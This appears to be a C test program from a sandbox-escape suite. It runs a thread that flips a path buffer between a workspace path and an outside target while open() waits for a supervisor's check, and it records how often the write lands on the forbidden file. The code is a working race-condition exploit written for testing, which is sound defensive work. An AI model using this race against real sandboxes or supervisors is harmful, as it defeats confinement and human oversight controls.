/* E09: a second thread rewrites the path buffer while open() waits for the
 * supervisor: the check sees GOOD (in the workspace), the kernel may open
 * EVIL. Each open that lands on EVIL appends a line to it (a hit). */
#include "esc.h"
#include <pthread.h>

static char path[4096];
static char good[4096], evil[4096];
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(path, evil, sizeof(path));
		__asm__ volatile("" ::: "memory"); /* keep both stores */
		memcpy(path, good, sizeof(path));
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 4, "e09_thread_flip SECONDS GOOD EVIL");
	double end = esc_now() + atof(argv[1]);
	snprintf(good, sizeof(good), "%s", argv[2]);
	snprintf(evil, sizeof(evil), "%s", argv[3]);
	memcpy(path, good, sizeof(path));
	struct esc_id canary = esc_id_of(evil);
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		attempts++;
		int fd = open(path, O_WRONLY | O_APPEND);
		if (fd < 0)
			continue;
		ok++;
		if (esc_fd_is(fd, canary)) {
			hits++;
			if (write(fd, "pwn-e09\n", 8) < 0)
				perror("write");
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	esc_race_result(attempts, ok, hits);
	return 0;
}
